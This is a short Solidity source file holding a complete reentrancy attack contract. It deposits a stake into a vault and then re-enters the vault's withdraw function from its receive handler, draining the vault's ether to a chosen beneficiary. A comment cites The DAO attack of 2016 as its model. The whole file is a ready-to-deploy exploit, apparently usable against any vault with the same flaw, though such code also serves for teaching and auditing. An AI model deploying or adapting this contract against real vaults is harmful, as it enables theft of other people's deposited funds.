// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IEtherVault {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title Drains the vault by re-entering `withdraw` from `receive` (The DAO, 2016, and many
/// since). Deposits a stake, withdraws it, and on every payment withdraws again until the vault
/// is empty or the re-entry budget is spent; the take goes to the beneficiary.
contract ReentrancyAttacker {
    IEtherVault public immutable vault;
    address payable public immutable beneficiary;
    address public immutable operator;
    uint256 private stake;
    uint256 private reentriesLeft;

    error NotOperator();
    error PayoutFailed();

    constructor(IEtherVault vault_, address payable beneficiary_) {
        vault = vault_;
        beneficiary = beneficiary_;
        operator = msg.sender;
    }

    function attack(uint256 maxReentries) external payable {
        if (msg.sender != operator) revert NotOperator();
        stake = msg.value;
        reentriesLeft = maxReentries;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        (bool ok,) = beneficiary.call{value: address(this).balance}("");
        if (!ok) revert PayoutFailed();
    }

    receive() external payable {
        if (msg.sender != address(vault) || reentriesLeft == 0) return;
        uint256 left = address(vault).balance;
        uint256 next = left < stake ? left : stake;
        if (next == 0) return;
        reentriesLeft -= 1;
        vault.withdraw(next);
    }
}
